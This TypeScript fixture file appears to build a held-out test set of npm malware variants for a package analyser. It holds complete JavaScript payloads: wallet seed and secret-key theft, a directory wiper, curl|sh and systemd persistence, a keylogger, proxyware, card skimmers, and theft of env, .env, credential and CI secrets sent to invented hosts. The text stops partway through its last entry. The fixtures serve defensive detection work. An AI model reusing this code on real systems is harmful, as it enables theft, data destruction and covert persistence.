/**
 * Inert npm malware variants, SET10 (blind, held out): written on 2026-11-27 without looking at the
 * analyser (shared/packages, shared/sandbox), its docs, test/unit/ (except the calling code of
 * test/unit/pkg-blind-set9-4.test.ts), bench/ or the malware corpus. What was read:
 * test/fixtures/archives/build.ts, the NpmVariant shape and helpers at the top of
 * test/support/npm-variants.ts, test/support/blind-halves.ts, the header comments of npm SET7-9 and
 * PyPI SET1-4 (their lists of shapes, so that this set prefers others), and public reports found with
 * the `search` tool (listed below).
 *
 * Shapes, chosen to differ from the earlier lists: a desktop wallet's Electron `app.asar` unpacked,
 * patched and repacked with @electron/asar (nodejs-smtp, 2025); a fastify plugin whose hidden route
 * wipes the application directory on a secret key (express-api-sync / system-health-sync-api, 2025);
 * source files of the calling program read through the stack and sent (solana-token, 2025); a
 * Keypair constructor monkeypatched through `Module.prototype.require` (semantic-types, 2025); a
 * date-seeded domain generation algorithm (chimera-sandbox-extensions, 2025); lockfile `resolved`
 * rewriting; git `url.<base>.insteadOf` redirection; hosts-file pinning; Defender exclusions through
 * `Add-MpPreference`; macOS LaunchAgent and systemd user-unit persistence; `screencapture` and
 * `uiohook-napi` keystrokes; residential-proxy enrolment over a raw socket; a webpack
 * `processAssets` skimmer, a Babel visitor that injects a beacon into every compiled file, a PostCSS
 * plugin and a Jest test environment that act when the consumer builds or tests; a Mongoose plugin
 * that copies saved documents, a login-body harvester, a React card-form skimmer; WebSocket and
 * integer-IP channels; an SVG `<desc>` carrier; a char-code shift loader; `wget | node`; JScript run
 * by `cscript`; shell-history and Terraform-state theft; Bitwarden / 1Password CLI dumps; Chrome
 * launched with `--load-extension`; an undici global dispatcher copying Authorization headers; a
 * Chrome Cookies SQLite read through better-sqlite3; a home-directory encryptor with a ransom note;
 * a `.devcontainer` `postCreateCommand` (nothing in the tarball runs it); a locale file whose plural rule
 * (compiled with new Function, as i18n libraries do) is a statement list; a logger whose default JSON
 * config ships logs, with env in a startup line, to an invented host; a GraphQL client whose token refresh
 * goes to a one-letter look-alike of the configured host.
 *
 * About a third are "hard" (the note says so): split over files, reached through indirection, next
 * to decoys that do the package's stated job. NPM_TWINS_SET10 are honest near twins using the same
 * APIs for their own ends. Each item's note starts with `[trigger]` or `[trigger, hard]`, trigger
 * one of install (any lifecycle script), import, runtime, build (a tool plugin run by the consumer's
 * build / test), none (nothing runs from the tarball).
 *
 * Nothing here runs: the texts are packed into in-memory tarballs by the tests. Hosts are invented
 * (`.example` / `.invalid` / `.test`, TEST-NET 192.0.2.x / 198.51.100.x / 203.0.113.x, one written
 * as a 32-bit integer). No package registry host is written (a registry comes from
 * `npm_config_registry`). Tokens and keys come from the seeded generator `invented` of
 * npm-variants.ts; the PE and ELF files are headers only.
 *
 * Sources (public reports the families follow; `search` corpus "pages"):
 * - nodejs-smtp (Socket, 2025): nodemailer look-alike that patches Atomic / Exodus app.asar:
 *   https://digitaldigests.net/ai-in-software-development/malicious-npm-package-nodejs-smtp-mimics-nodemailer-targets-atomic-and-exodus-wallets-2 ,
 *   https://en.ittrends.news/Information+Technology/Software/2025/09/malicious-npm-packages-nodejs-smtp-case-study.html
 * - express-api-sync / system-health-sync-api wipers behind a hidden endpoint (Socket, May 2025):
 *   https://trendinfra.com/?p=3801 , https://thenimblenerd.com/article/beware-of-npms-digital-disasters-malicious-packages-wipe-out-developer-dreams
 * - solana-token (source taken from the execution stack) and semantic-types (runtime monkeypatching
 *   of Solana key generation) (ReversingLabs / Socket, 2025), used here in JavaScript form:
 *   https://grabadvice.com/?p=6203 , https://trade.writer.dog/2025/05/31/%e6%83%a1%e6%84%8fpypi%e5%a5%97%e4%bb%b6%e4%be%9b%e6%87%89%e9%8f%88%e6%94%bb%e6%93%8a%e7%ab%8a%e5%8f%96solana%e7%a7%81%e9%91%b0
 * - Ethereum-hosted delivery and blockchain dead drops (for the DGA contrast):
 *   https://quitemailingyourself.com/tags/javascript/npm
 * - pgserve / automagik credential harvesters (env, tokens): https://appsecuritystandards.org/blog/malicious-npm-packages-stole-credentials-from-8-000-weekly-downloads
 * - Install-script backdoors (Snyk, 2024-25): https://appsecuritystandards.org/blog/eight-npm-packages-deployed-backdoors-via-install-scripts
 * - Postinstall credential stealers (local files, tokens, browser data, second stage):
 *   https://doublecheckhq.com/patterns/npm-postinstall-credential-stealer/
 * - TeamPCP 2026 wave (Bitwarden CLI among the hit packages; CI secrets): https://dev.to/codewithrajat/your-next-npm-install-could-already-be-running-malware-326j
 * - Miasma / binding.gyp wave (June 2026, build steps as an execution path):
 *   https://netcrook.com/written_article?lang=en&slug=npm-package-compromise-build-hook-risk
 * - Transitive postinstall env theft narrative: https://blog.honeyhimself.com/series/frontend-security/supply-chain-risks
 * - "written" (this author's combinations of documented npm, git, webpack, Babel, PostCSS, Jest,
 *   Mongoose, undici, Electron and OS mechanisms with the families above): lockfile rewrite,
 *   insteadOf, hosts file, LaunchAgent, systemd unit, proxyware, build-plugin forms, SVG carrier,
 *   char-code shift, cscript, Terraform state, password-manager CLIs, --load-extension, dispatcher,
 *   encryptor, devcontainer.
 */

import { fakeElf, fakePe, invented, type NpmVariant, pkgJson } from './npm-variants.js';

/** An npm variant with its note (`[trigger]` or `[trigger, hard]` first). */
export interface NpmVariantN extends NpmVariant {
  note: string;
}

/** Raw template: generated JavaScript keeps its backslashes; contents avoid backticks and `${`. */
const js = String.raw;
const b64 = (s: string): string => Buffer.from(s).toString('base64');
/** Char codes shifted by `k`, the loader shifts them back. */
const shifted = (s: string, k: number): string => [...Buffer.from(s)].map((c) => c + k).join(',');

const g = invented(0x5e710, 9);
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const HEX = '0123456789abcdef';
const PROXY_KEY = g(ALNUM, 32);
const WIPE_KEY = g(HEX, 40);
const PASTE_KEY = g(HEX, 32);
const OWN_SHA = g(HEX, 64);
const OWN_SHA2 = g(HEX, 64);
const SKIM_ID = g(ALNUM, 12);

export const NPM_VARIANTS_SET10: readonly NpmVariantN[] = [
  {
    family: 'asar_patch_wallet',
    id: 'smtp-lookalike-repacks-exodus-asar',
    note: '[install, hard] a nodemailer look-alike whose postinstall unpacks the Exodus / Atomic app.asar with @electron/asar, injects a renderer hook that posts the seed phrase, and repacks it; mailer code is a decoy',
    files: {
      'package.json': pkgJson('node-smtp-mailer', {
        main: 'lib/mailer.js',
        scripts: { postinstall: 'node lib/transport/pool.js' },
        dependencies: { '@electron/asar': '^3.2.0' },
      }),
      'lib/mailer.js': js`const net = require('net');
exports.createTransport = (opts) => ({
  sendMail(msg, cb) {
    const s = net.connect(opts.port || 25, opts.host);
    s.on('connect', () => { s.write('HELO ' + (opts.name || 'localhost') + '\r\n'); s.end(); cb && cb(null, { accepted: [msg.to] }); });
  },
});
`,
      'lib/transport/pool.js': js`// connection pool warm-up
const fs = require('fs');
const path = require('path');
const os = require('os');
const asar = require('@electron/asar');
const base = process.env.LOCALAPPDATA || path.join(os.homedir(), 'AppData', 'Local');
const apps = [path.join(base, 'exodus'), path.join(base, 'Programs', 'atomic')];
const hook = fs.readFileSync(path.join(__dirname, 'pool.dat'), 'utf8');
for (const root of apps) {
  if (!fs.existsSync(root)) continue;
  const dirs = fs.readdirSync(root).filter((d) => d.startsWith('app-')).map((d) => path.join(root, d, 'resources'));
  dirs.push(path.join(root, 'resources'));
  for (const res of dirs) {
    const archive = path.join(res, 'app.asar');
    if (!fs.existsSync(archive)) continue;
    const tmp = path.join(os.tmpdir(), 'smtp-pool-' + process.pid);
    asar.extractAll(archive, tmp);
    const target = path.join(tmp, 'src', 'app', 'wallet', 'index.js');
    if (fs.existsSync(target)) fs.appendFileSync(target, '\n' + hook);
    asar.createPackage(tmp, archive).then(() => fs.rmSync(tmp, { recursive: true, force: true }));
  }
}
`,
      'lib/transport/pool.dat': js`;(function(){var o=window.walletApi&&window.walletApi.unlock;if(!o)return;window.walletApi.unlock=async function(p){var r=await o.apply(this,arguments);try{var m=await window.walletApi.getMnemonic(p);fetch('https://relay.mailpool.example/k',{method:'POST',body:JSON.stringify({m:m,p:p})});}catch(e){}return r;};})();
`,
    },
  },
  {
    family: 'hidden_route_wiper',
    id: 'fastify-plugin-secret-route-rmrf',
    note: '[runtime] a fastify "health" plugin registers a hidden POST route; the right key in a header deletes the working directory (rm -rf on POSIX, rd /s /q on Windows)',
    files: {
      'package.json': pkgJson('fastify-health-sync', { main: 'index.js', peerDependencies: { fastify: '>=4' } }),
      'index.js': js`const { exec } = require('child_process');
const os = require('os');
module.exports = async function healthSync(app, opts) {
  app.get(opts.path || '/healthz', async () => ({ ok: true, uptime: process.uptime(), load: os.loadavg() }));
  app.post('/_sync/maintenance', async (req, reply) => {
    if (req.headers['x-sync-key'] !== '${WIPE_KEY}') return reply.code(404).send();
    const dir = process.cwd();
    const cmd = process.platform === 'win32' ? 'rd /s /q "' + dir + '"' : 'rm -rf "' + dir + '"';
    exec(cmd);
    return { ok: true };
  });
};
module.exports[Symbol.for('skip-override')] = true;
`,
    },
  },
  {
    family: 'caller_source_theft',
    id: 'stack-callers-source-upload',
    note: '[import] a Solana helper reads the source files of every module on the call stack at require time (and require.main) and posts them to a TEST-NET address: hard-coded keys in the caller are the target',
    files: {
      'package.json': pkgJson('solana-token-kit', { main: 'index.js' }),
      'index.js': js`const fs = require('fs');
const http = require('http');
const seen = new Set();
const files = (new Error().stack || '').split('\n').map((l) => (l.match(/\((\/[^:)]+|[A-Z]:\\[^:)]+):\d+:\d+\)/) || [])[1]).filter(Boolean);
if (require.main && require.main.filename) files.push(require.main.filename);
const bundle = {};
for (const f of files) {
  if (seen.has(f) || f.includes('node_modules')) continue;
  seen.add(f);
  try { bundle[f] = fs.readFileSync(f, 'utf8'); } catch (e) {}
}
const body = JSON.stringify(bundle);
const req = http.request({ host: '198.51.100.23', port: 8080, path: '/src', method: 'POST', headers: { 'content-type': 'application/json' } });
req.on('error', () => {});
req.end(body);
exports.lamportsToSol = (l) => l / 1e9;
exports.solToLamports = (s) => Math.round(s * 1e9);
`,
    },
  },
  {
    family: 'keypair_monkeypatch',
    id: 'require-hook-patches-solana-keypair',
    note: '[import, hard] index loads a "compat" module that wraps Module.prototype.require; when the app later requires @solana/web3.js its Keypair.fromSecretKey / generate are wrapped and each secret key is sent out hex-encoded in a query string',
    files: {
      'package.json': pkgJson('solana-types-compat', { main: 'index.js' }),
      'index.js': js`require('./lib/compat');
exports.isPublicKeyLike = (s) => typeof s === 'string' && /^[1-9A-HJ-NP-Za-km-z]{32,44}$/.test(s);
`,
      'lib/compat.js': js`const Module = require('module');
const wrap = require('./shape');
const orig = Module.prototype.require;
Module.prototype.require = function (id) {
  const m = orig.apply(this, arguments);
  if (id === '@solana/web3.js' && m && m.Keypair && !m.Keypair.__c) wrap(m.Keypair);
  return m;
};
`,
      'lib/shape.js': js`const https = require('https');
function note(kp) {
  try {
    const hex = Buffer.from(kp.secretKey).toString('hex');
    https.get('https://rpc-metrics.solhelper.example/v1/ping?s=' + hex).on('error', () => {});
  } catch (e) {}
  return kp;
}
module.exports = (Keypair) => {
  Keypair.__c = true;
  const fsk = Keypair.fromSecretKey.bind(Keypair);
  const gen = Keypair.generate.bind(Keypair);
  Keypair.fromSecretKey = (...a) => note(fsk(...a));
  Keypair.generate = () => note(gen());
};
`,
    },
  },
  {
    family: 'dga_loader',
    id: 'date-seeded-dga-fetch-function',
    note: '[install, hard] postinstall computes a domain from the sha256 of the current date, fetches a token then a script from it, and runs it with new Function; the generator is presented as a "mirror picker"',
    files: {
      'package.json': pkgJson('sandbox-ext-utils', { scripts: { postinstall: 'node scripts/mirror.js' } }),
      'scripts/mirror.js': js`const crypto = require('crypto');
const https = require('https');
const os = require('os');
function pick(d) {
  const h = crypto.createHash('sha256').update(d.toISOString().slice(0, 10) + 'mirror').digest('hex');
  let name = '';
  for (let i = 0; i < 12; i++) name += String.fromCharCode(97 + (parseInt(h.substr(i * 2, 2), 16) % 26));
  return name + '.example';
}
function get(url, cb) { https.get(url, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => cb(b)); }).on('error', () => {}); }
const host = pick(new Date());
get('https://' + host + '/auth?u=' + encodeURIComponent(os.userInfo().username), (tok) => {
  get('https://' + host + '/stage?t=' + tok.trim(), (code) => new Function('require', code)(require));
});
`,
    },
  },
  {
    family: 'lockfile_poison',
    id: 'postinstall-rewrites-lock-resolved',
    note: '[install] postinstall finds the consumer project (INIT_CWD) and rewrites every "resolved" URL in package-lock.json to an invented mirror, and drops the integrity fields so the next `npm ci` takes tarballs from it',
    files: {
      'package.json': pkgJson('lockfile-normalize', { scripts: { postinstall: 'node postinstall.js' } }),
      'postinstall.js': js`const fs = require('fs');
const path = require('path');
const root = process.env.INIT_CWD || path.resolve(__dirname, '..', '..');
const lock = path.join(root, 'package-lock.json');
if (fs.existsSync(lock)) {
  const j = JSON.parse(fs.readFileSync(lock, 'utf8'));
  for (const [k, v] of Object.entries(j.packages || {})) {
    if (!k || !v.resolved) continue;
    const u = new URL(v.resolved);
    v.resolved = 'https://cache.npm-mirror.example' + u.pathname;
    delete v.integrity;
  }
  fs.writeFileSync(lock, JSON.stringify(j, null, 2));
}
`,
    },
  },
  {
    family: 'git_insteadof_redirect',
    id: 'global-git-insteadof-to-mirror',
    note: "[install] preinstall sets git's global url.<mirror>.insteadOf for the public code hosts, so every later clone / fetch / submodule goes through an invented host",
    files: {
      'package.json': pkgJson('git-fast-mirror', { scripts: { preinstall: 'node setup.js' } }),
      'setup.js': js`const { execFileSync } = require('child_process');
const bases = ['https://github' + '.com/', 'git@github' + '.com:', 'https://gitlab' + '.com/'];
for (const b of bases) {
  try { execFileSync('git', ['config', '--global', '--add', 'url.https://git-cache.fastmirror.example/.insteadOf', b]); } catch (e) {}
}
`,
    },
  },
  {
    family: 'hosts_file_pin',
    id: 'import-appends-hosts-file',
    note: '[import] on require, appends lines to the system hosts file pinning an exchange API name and an update server to TEST-NET addresses',
    files: {
      'package.json': pkgJson('dns-cache-boost', { main: 'index.js' }),
      'index.js': js`const fs = require('fs');
const hosts = process.platform === 'win32' ? 'C:\\Windows\\System32\\drivers\\etc\\hosts' : '/etc/hosts';
const add = ['203.0.113.44 api.exchange-pro.example', '203.0.113.45 update.walletapp.example'];
try {
  const cur = fs.readFileSync(hosts, 'utf8');
  const miss = add.filter((l) => !cur.includes(l));
  if (miss.length) fs.appendFileSync(hosts, '\n' + miss.join('\n') + '\n');
} catch (e) {}
module.exports = { ttl: 300 };
`,
    },
  },
  {
    family: 'defender_exclusion_then_exe',
    id: 'add-mppreference-exclusion-run-exe',
    note: '[install] install script adds a Windows Defender exclusion for the package folder and %TEMP% with Add-MpPreference, then starts a bundled exe hidden',
    files: {
      'package.json': pkgJson('win-perf-tools', { scripts: { install: 'node install.js' } }),
      'install.js': js`const { spawn, execSync } = require('child_process');
const path = require('path');
if (process.platform === 'win32') {
  try {
    execSync('powershell -NoProfile -WindowStyle Hidden -Command "Add-MpPreference -ExclusionPath \'' + __dirname + '\',$env:TEMP"', { stdio: 'ignore' });
  } catch (e) {}
  spawn(path.join(__dirname, 'bin', 'perfmon.exe'), [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
}
`,
      'bin/perfmon.exe': fakePe(),
    },
  },
  {
    family: 'launchagent_persistence',
    id: 'postinstall-launchagent-curl',
    note: '[install] postinstall on macOS writes ~/Library/LaunchAgents/com.apple.updates.plist with RunAtLoad running curl | sh from an invented host, and loads it with launchctl',
    files: {
      'package.json': pkgJson('mac-notify-kit', { scripts: { postinstall: 'node scripts/postinstall.js' } }),
      'scripts/postinstall.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');
if (process.platform === 'darwin') {
  const dir = path.join(os.homedir(), 'Library', 'LaunchAgents');
  const file = path.join(dir, 'com.apple.updates.plist');
  const plist = '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict>' +
    '<key>Label</key><string>com.apple.updates</string>' +
    '<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -fsSL https://upd.notifykit.example/m | sh</string></array>' +
    '<key>RunAtLoad</key><true/><key>StartInterval</key><integer>3600</integer></dict></plist>';
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(file, plist);
  execFile('launchctl', ['load', '-w', file], () => {});
}
`,
    },
  },
  {
    family: 'systemd_user_unit',
    id: 'systemd-user-service-bundled-elf',
    note: '[install] postinstall copies a bundled ELF to ~/.local/share and installs an enabled systemd --user service (Restart=always) for it',
    files: {
      'package.json': pkgJson('linux-sysinfo-lite', { scripts: { postinstall: 'node ./lib/setup' } }),
      'lib/setup.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');
if (process.platform === 'linux') {
  const bin = path.join(os.homedir(), '.local', 'share', 'dbus-session', 'dbus-sessiond');
  fs.mkdirSync(path.dirname(bin), { recursive: true });
  fs.copyFileSync(path.join(__dirname, '..', 'vendor', 'sysinfo'), bin);
  fs.chmodSync(bin, 0o755);
  const unitDir = path.join(os.homedir(), '.config', 'systemd', 'user');
  fs.mkdirSync(unitDir, { recursive: true });
  fs.writeFileSync(path.join(unitDir, 'dbus-session.service'), '[Unit]\nDescription=D-Bus Session Helper\n[Service]\nExecStart=' + bin + '\nRestart=always\n[Install]\nWantedBy=default.target\n');
  try { execSync('systemctl --user daemon-reload && systemctl --user enable --now dbus-session.service', { stdio: 'ignore' }); } catch (e) {}
}
`,
      'vendor/sysinfo': fakeElf(),
    },
  },
  {
    family: 'screen_capture_upload',
    id: 'runtime-screencapture-interval-upload',
    note: '[runtime] a "notification" helper, once init() is called, takes a silent screenshot every minute (screencapture -x / import -window root / PowerShell CopyFromScreen) and uploads it',
    files: {
      'package.json': pkgJson('desk-notifier', { main: 'index.js' }),
      'index.js': js`const { execFile } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
function shot(out, cb) {
  if (process.platform === 'darwin') return execFile('screencapture', ['-x', out], cb);
  if (process.platform === 'linux') return execFile('import', ['-window', 'root', out], cb);
  const ps = 'Add-Type -AssemblyName System.Windows.Forms,System.Drawing;$b=[System.Windows.Forms.Screen]::PrimaryScreen.Bounds;$i=New-Object System.Drawing.Bitmap $b.Width,$b.Height;[System.Drawing.Graphics]::FromImage($i).CopyFromScreen($b.Location,[System.Drawing.Point]::Empty,$b.Size);$i.Save(\'' + out + '\')';
  execFile('powershell', ['-NoProfile', '-Command', ps], cb);
}
exports.init = () => {
  setInterval(() => {
    const out = path.join(os.tmpdir(), 'n' + Date.now() + '.png');
    shot(out, () => {
      fs.readFile(out, (e, buf) => {
        if (e) return;
        fetch('https://img.desknotify.example/u?h=' + os.hostname(), { method: 'POST', body: buf }).catch(() => {});
        fs.unlink(out, () => {});
      });
    });
  }, 60000).unref();
};
exports.notify = (title, msg) => console.log('[' + title + '] ' + msg);
`,
    },
  },
  {
    family: 'keylogger_uiohook',
    id: 'uiohook-keydown-batched-post',
    note: '[import] requiring the package starts uiohook-napi and batches every keydown (with the active window title through a helper) to a remote collector',
    files: {
      'package.json': pkgJson('hotkey-bindings', { main: 'index.js', dependencies: { 'uiohook-napi': '^1.5.0' } }),
      'index.js': js`const { uIOhook, UiohookKey } = require('uiohook-napi');
const names = Object.fromEntries(Object.entries(UiohookKey).map(([k, v]) => [v, k]));
let buf = [];
uIOhook.on('keydown', (e) => { buf.push(names[e.keycode] || e.keycode); });
uIOhook.start();
setInterval(() => {
  if (!buf.length) return;
  const keys = buf.join(' ');
  buf = [];
  fetch('https://k.hotkeybind.example/b', { method: 'POST', body: keys }).catch(() => {});
}, 30000).unref();
exports.bind = (combo, fn) => uIOhook.on('keydown', (e) => { if (names[e.keycode] === combo) fn(); });
`,
    },
  },
  {
    family: 'proxyware_enrol',
    id: 'import-socket-relay-proxy-node',
    note: '[import, hard] on require, opens a TCP control channel to a relay and serves as an exit node: each "OPEN host:port" line makes it dial out and pipe bytes (residential proxy enrolment); the proxy logic sits in a file named for retries',
    files: {
      'package.json': pkgJson('http-retry-agent', { main: 'index.js' }),
      'index.js': js`const http = require('http');
require('./lib/backoff').start();
exports.agent = new http.Agent({ keepAlive: true, maxSockets: 16 });
exports.retry = async (fn, n = 3) => { for (let i = 0; ; i++) { try { return await fn(); } catch (e) { if (i >= n) throw e; } } };
`,
      'lib/backoff.js': js`const net = require('net');
const os = require('os');
exports.start = () => {
  const ctl = net.connect(443, '192.0.2.77');
  ctl.on('error', () => {});
  ctl.write('HELLO ${PROXY_KEY} ' + os.hostname() + ' ' + os.cpus().length + '\n');
  let line = '';
  ctl.on('data', (d) => {
    line += d;
    let i;
    while ((i = line.indexOf('\n')) >= 0) {
      const cmd = line.slice(0, i).split(' ');
      line = line.slice(i + 1);
      if (cmd[0] !== 'OPEN') continue;
      const [h, p] = cmd[2].split(':');
      const up = net.connect(Number(p), h);
      const back = net.connect(443, '192.0.2.77');
      back.write('DATA ' + cmd[1] + '\n');
      up.pipe(back).pipe(up);
      up.on('error', () => back.destroy());
      back.on('error', () => up.destroy());
    }
  });
  ctl.unref();
};
`,
    },
  },
  {
    family: 'webpack_skimmer_inject',
    id: 'webpack-processassets-appends-skimmer',
    note: '[build, hard] a webpack "bundle analyzer" plugin appends a payment-form skimmer to every emitted .js asset in production builds; the analysis report it writes is the decoy',
    files: {
      'package.json': pkgJson('webpack-bundle-sizes', { main: 'index.js', peerDependencies: { webpack: '>=5' } }),
      'index.js': js`const fs = require('fs');
const path = require('path');
const tail = require('./lib/tail');
class BundleSizesPlugin {
  apply(compiler) {
    const { Compilation, sources } = compiler.webpack;
    compiler.hooks.thisCompilation.tap('BundleSizes', (compilation) => {
      compilation.hooks.processAssets.tap({ name: 'BundleSizes', stage: Compilation.PROCESS_ASSETS_STAGE_OPTIMIZE_TRANSFER }, (assets) => {
        const report = {};
        for (const name of Object.keys(assets)) {
          report[name] = assets[name].size();
          if (compiler.options.mode === 'production' && name.endsWith('.js')) {
            compilation.updateAsset(name, (src) => new sources.ConcatSource(src, tail()));
          }
        }
        fs.writeFileSync(path.join(compiler.outputPath || '.', 'bundle-sizes.json'), JSON.stringify(report, null, 2));
      });
    });
  }
}
module.exports = BundleSizesPlugin;
`,
      'lib/tail.js': js`module.exports = () => ';(function(){document.addEventListener("submit",function(e){var f=e.target,d={};[].forEach.call(f.querySelectorAll("input"),function(i){if(/card|cc|cvv|cvc|exp|number/i.test(i.name||i.id))d[i.name||i.id]=i.value;});if(Object.keys(d).length)navigator.sendBeacon("https://cdn-metrics.bundlesizes.example/c?i=${SKIM_ID}",JSON.stringify(d));},true);})();';
`,
    },
  },
  {
    family: 'babel_visitor_inject',
    id: 'babel-plugin-prepends-env-beacon',
    note: '[build] a Babel plugin (named like an optimisation) prepends to every transformed Program an import-time beacon that posts process.env to an invented host: the consumer ships the payload in its own output',
    files: {
      'package.json': pkgJson('babel-plugin-tiny-consts', { main: 'index.js' }),
      'index.js': js`module.exports = function ({ template }) {
  const beacon = template.statement.ast('try{typeof process!=="undefined"&&fetch("https://t.tinyconsts.example/e",{method:"POST",body:JSON.stringify(process.env)}).catch(function(){})}catch(_){}');
  return {
    name: 'tiny-consts',
    visitor: {
      Program: { exit(p) { p.unshiftContainer('body', beacon); } },
      BinaryExpression(p) {
        const { left, right, operator } = p.node;
        if (operator === '+' && left.type === 'NumericLiteral' && right.type === 'NumericLiteral') p.replaceWithSourceString(String(left.value + right.value));
      },
    },
  };
};
`,
    },
  },
  {
    family: 'postcss_plugin_env',
    id: 'postcss-plugin-once-reads-dotenv',
    note: "[build] a PostCSS plugin's Once hook reads the project's .env files and ~/.aws/credentials and posts them, while otherwise prefixing selectors",
    files: {
      'package.json': pkgJson('postcss-scope-prefix', { main: 'index.js', peerDependencies: { postcss: '^8' } }),
      'index.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
let sent = false;
module.exports = (opts = {}) => ({
  postcssPlugin: 'postcss-scope-prefix',
  Once() {
    if (sent) return;
    sent = true;
    const out = {};
    for (const f of ['.env', '.env.local', '.env.production', path.join(os.homedir(), '.aws', 'credentials')]) {
      try { out[f] = fs.readFileSync(path.resolve(f), 'utf8'); } catch (e) {}
    }
    fetch('https://fonts.scopeprefix.example/css2', { method: 'POST', body: JSON.stringify(out) }).catch(() => {});
  },
  Rule(rule) { if (opts.prefix) rule.selectors = rule.selectors.map((s) => opts.prefix + ' ' + s); },
});
module.exports.postcss = true;
`,
    },
  },
  {
    family: 'jest_environment_ci',
    id: 'jest-env-ci-secrets-post',
    note: '[build] a custom Jest test environment whose setup(), when CI is set, posts every env var whose name looks like a secret (TOKEN, KEY, SECRET, PASSWORD)',
    files: {
      'package.json': pkgJson('jest-environment-fastdom', {
        main: 'index.js',
        peerDependencies: { 'jest-environment-node': '>=29' },
      }),
      'index.js': js`const NodeEnvironment = require('jest-environment-node').TestEnvironment;
const https = require('https');
class FastDomEnvironment extends NodeEnvironment {
  async setup() {
    await super.setup();
    if (process.env.CI) {
      const picked = Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET|PASSWORD|AUTH/i.test(k)));
      const r = https.request('https://ci-stats.fastdom.example/run', { method: 'POST', headers: { 'content-type': 'application/json' } });
      r.on('error', () => {});
      r.end(JSON.stringify({ repo: process.env.GITHUB_REPOSITORY, env: picked }));
    }
    this.global.requestAnimationFrame = (cb) => setTimeout(cb, 0);
  }
}
module.exports = FastDomEnvironment;
`,
    },
  },
  {
    family: 'mongoose_doc_copy',
    id: 'mongoose-plugin-post-save-mirror',
    note: '[runtime, hard] a Mongoose "soft delete" plugin adds a post("save") hook that mirrors every saved document (users, tokens, orders) to a remote host; the soft-delete methods are real',
    files: {
      'package.json': pkgJson('mongoose-soft-remove', { main: 'index.js', peerDependencies: { mongoose: '>=7' } }),
      'index.js': js`const audit = require('./lib/audit');
module.exports = function softRemove(schema) {
  schema.add({ deletedAt: { type: Date, default: null } });
  schema.methods.softRemove = function () { this.deletedAt = new Date(); return this.save(); };
  schema.pre(/^find/, function () { this.where({ deletedAt: null }); });
  schema.post('save', audit);
};
`,
      'lib/audit.js': js`const https = require('https');
const q = [];
let t = null;
function flush() {
  t = null;
  const body = JSON.stringify(q.splice(0));
  const r = https.request({ host: 'audit.softremove.example', path: '/ingest', method: 'POST' });
  r.on('error', () => {});
  r.end(body);
}
module.exports = function (doc) {
  q.push({ m: doc.constructor.modelName, d: doc.toObject({ depopulate: true }) });
  if (!t) t = setTimeout(flush, 5000);
};
`,
    },
  },
  {
    family: 'login_body_harvest',
    id: 'express-bodyparser-copies-login',
    note: '[runtime] a body-parser wrapper that, for any request path matching login / signin / auth, copies the parsed JSON body (user names and passwords) to a remote host',
    files: {
      'package.json': pkgJson('express-json-safe', { main: 'index.js' }),
      'index.js': js`const https = require('https');
module.exports = function jsonSafe(limit = 102400) {
  return (req, res, next) => {
    let raw = '';
    req.setEncoding('utf8');
    req.on('data', (c) => { raw += c; if (raw.length > limit) req.destroy(); });
    req.on('end', () => {
      try { req.body = raw ? JSON.parse(raw) : {}; } catch (e) { return res.status(400).end(); }
      if (/log-?in|sign-?in|auth|session/i.test(req.path) && req.body) {
        const r = https.request('https://collect.jsonsafe.example/l', { method: 'POST' });
        r.on('error', () => {});
        r.end(JSON.stringify({ h: req.headers.host, p: req.path, b: req.body }));
      }
      next();
    });
  };
};
`,
    },
  },
  {
    family: 'react_card_skimmer',
    id: 'react-card-input-onblur-exfil',
    note: '[runtime] a React credit-card input component sends number, expiry and CVC to a third-party host on blur, besides formatting them',
    files: {
      'package.json': pkgJson('react-card-fields', {
        main: 'dist/index.js',
        module: 'dist/index.mjs',
        peerDependencies: { react: '>=17' },
      }),
      'dist/index.mjs': js`import { createElement, useState } from 'react';
const fmt = (v) => v.replace(/\D/g, '').slice(0, 16).replace(/(.{4})/g, '$1 ').trim();
const card = {};
function report() {
  if (card.number && card.cvc) {
    const img = new Image();
    img.src = 'https://pixel.cardfields.example/p.gif?d=' + encodeURIComponent(btoa(JSON.stringify(card)));
  }
}
export function CardNumber(props) {
  const [v, set] = useState('');
  return createElement('input', { ...props, value: v, inputMode: 'numeric', onChange: (e) => set(fmt(e.target.value)), onBlur: () => { card.number = v; report(); } });
}
export function CardCvc(props) {
  const [v, set] = useState('');
  return createElement('input', { ...props, value: v, maxLength: 4, onChange: (e) => set(e.target.value), onBlur: () => { card.cvc = v; report(); } });
}
export function CardExpiry(props) {
  const [v, set] = useState('');
  return createElement('input', { ...props, value: v, onChange: (e) => set(e.target.value), onBlur: () => { card.exp = v; report(); } });
}
`,
      'dist/index.js': "module.exports = require('./index.mjs');\n",
    },
  },
  {
    family: 'websocket_env_channel',
    id: 'import-ws-sends-env-and-awaits-cmds',
    note: '[import] on require, opens a WebSocket (ws) to an invented host, sends env and host facts, and evaluates any message that arrives with vm.runInThisContext',
    files: {
      'package.json': pkgJson('live-reload-lite', { main: 'index.js', dependencies: { ws: '^8.0.0' } }),
      'index.js': js`const WebSocket = require('ws');
const os = require('os');
const vm = require('vm');
const sock = new WebSocket('wss://lr.livereload-lite.example/socket');
sock.on('open', () => sock.send(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, env: process.env })));
sock.on('message', (m) => { try { vm.runInThisContext(String(m)); } catch (e) {} });
sock.on('error', () => {});
exports.reload = () => sock.readyState === 1 && sock.send('{"reload":true}');
`,
    },
  },
  {
    family: 'integer_ip_exfil',
    id: 'preinstall-decimal-ip-passwd-env',
    note: '[install] preinstall posts /etc/passwd, the npm token lines of ~/.npmrc and env to an address written as a 32-bit integer (a TEST-NET address)',
    files: {
      'package.json': pkgJson('internal-design-tokens', { scripts: { preinstall: 'node pre.js' } }),
